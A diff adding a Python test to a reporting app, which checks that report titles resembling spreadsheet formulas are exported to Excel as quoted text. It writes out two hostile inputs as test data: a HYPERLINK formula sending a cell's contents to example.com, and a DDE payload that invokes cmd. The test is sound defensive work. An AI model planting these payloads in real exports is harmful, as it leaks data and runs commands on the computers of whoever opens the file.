@@ -224,3 +224,24 @@ async def test_months_are_counted_in_china_time(gql: GraphQLClient, make_user: A
     june = await gql.data(query, {"o": gid("Organization", civil.id), "m": "2025-06"}, office)
     july = await gql.data(query, {"o": gid("Organization", civil.id), "m": "2025-07"}, office)
     assert (june["monthlyReport"]["publishedThisMonth"], july["monthlyReport"]["publishedThisMonth"]) == (0, 1)
+
+
+async def test_a_title_that_looks_like_a_formula_is_exported_as_text(
+    client: httpx.AsyncClient, make_user: Any, session: Any, system: Any
+) -> None:
+    # An attacker's title: in Excel, a live formula would show a link that leaks the sheet's cells.
+    title = '=HYPERLINK("http://example.com"&A1,"点击查看")'
+    orgs = await county_with(session, system, ["县民政局"])
+    org = orgs["县民政局"]
+    await publish_at(session, org, f"513425/org:{org.id}", mid(2025, 4), title)
+    await publish_at(session, org, f"513425/org:{org.id}", mid(2025, 4, 16), "@SUM(1+1)*cmd|' /C calc'!A0")
+    await session.commit()
+    office = await make_user("office", Role.DISTRICT_OFFICE, unit_code="513425000000")
+    response = await client.get("/exports/monthly-report", params={"organizationId": str(org.id), "month": "2025-04"},
+                                headers={"Authorization": f"Bearer {office}"})  # fmt: skip
+    assert response.status_code == 200, response.text
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
+    for text in (title, "@SUM(1+1)*cmd|' /C calc'!A0"):
+        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
+    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
